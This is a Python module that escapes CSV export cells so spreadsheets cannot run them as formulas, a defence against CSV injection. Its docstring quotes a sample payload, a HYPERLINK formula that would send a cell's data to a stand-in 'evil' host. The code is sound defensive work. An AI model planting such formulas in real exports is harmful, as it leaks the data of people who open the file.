"""CSV exports that a spreadsheet cannot turn into formulas (OWASP "CSV Injection").

Account names, owner emails and next actions come from the CRM and from event data, so a cell
such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` would run when a person opens the export
in Excel, LibreOffice or Google Sheets. Every text cell whose first character (after any leading
single quotes) is `=`, `+`, `-`, `@`, tab, carriage return or line feed, or a full-width form of
the first four, gets one leading single quote, which spreadsheets show as text. Numbers are
written as numbers (a negative score stays -3.5), and so is text that is a plain number.

`unguard` undoes `guard` exactly, so the export round-trips to the original strings. Standard
library only: the dashboard plugin uses it and must stay light at import.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any, TextIO

#: first characters a spreadsheet may read as the start of a formula (OWASP, plus LF and the
#: full-width forms some locales also accept)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
GUARD = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)


def _is_plain_number(text: str) -> bool:
    return _PLAIN_NUMBER.fullmatch(text) is not None


def needs_guard(text: str) -> bool:
    """True when `text` could start a formula. Leading quotes are looked through, so a value that
    already starts with a quote is guarded too and `unguard` stays unambiguous."""
    bare = text.lstrip(GUARD)
    return bare.startswith(FORMULA_START) and not _is_plain_number(bare)


def guard(value: Any) -> Any:
    """One cell as written: text that could start a formula gets a leading quote; other values as they are."""
    if isinstance(value, str) and needs_guard(value):
        return GUARD + value
    return value


def unguard(text: str) -> str:
    """The original text of a guarded cell (the inverse of `guard` on strings)."""
    if text.startswith(GUARD) and needs_guard(text[1:]):
        return text[1:]
    return text


def _missing(value: Any) -> bool:
    """NaN, pandas' NaT and NA: values that are not equal to themselves."""
    try:
        return bool(value != value)
    except (TypeError, ValueError):  # pd.NA compares to NA, which has no truth value
        return True


def cell(value: Any) -> Any:
    """A value ready for csv.writer: None and NaN empty, dates ISO-8601, numbers unchanged, text guarded."""
    if value is None or (not isinstance(value, str) and _missing(value)):
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    if hasattr(value, "item") and not isinstance(value, str):  # numpy scalars
        return cell(value.item())
    return guard(str(value))


def write_rows(out: TextIO, columns: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> int:
    """Write a header and the rows (mappings keyed by column, or sequences in column order); returns the row count."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([guard(str(c)) for c in columns])
    count = 0
    for row in rows:
        values = [row.get(c) for c in columns] if isinstance(row, Mapping) else list(row)
        writer.writerow([cell(v) for v in values])
        count += 1
    return count


def to_csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> str:
    buffer = io.StringIO(newline="")
    write_rows(buffer, columns, rows)
    return buffer.getvalue()


def read_rows(text: str) -> list[list[str]]:
    """Parse an export back to its original strings (header included): what a test or script reads."""
    return [[unguard(value) for value in row] for row in csv.reader(io.StringIO(text, newline=""))]


def export_scores(lake: Any, day: date, out: TextIO) -> int:
    """Day D's account scores (lake `scores/dt=D`, SPEC section 7 columns) as guarded CSV; returns the row count."""
    from include.scoring.lake import catalog  # the lake's catalog needs pyarrow: not at import

    frame = lake.read_df(catalog.SCORES, day).sort_values(["score", "account_id"], ascending=[False, True])
    return write_rows(out, list(catalog.SCORES.columns), frame.to_dict("records"))
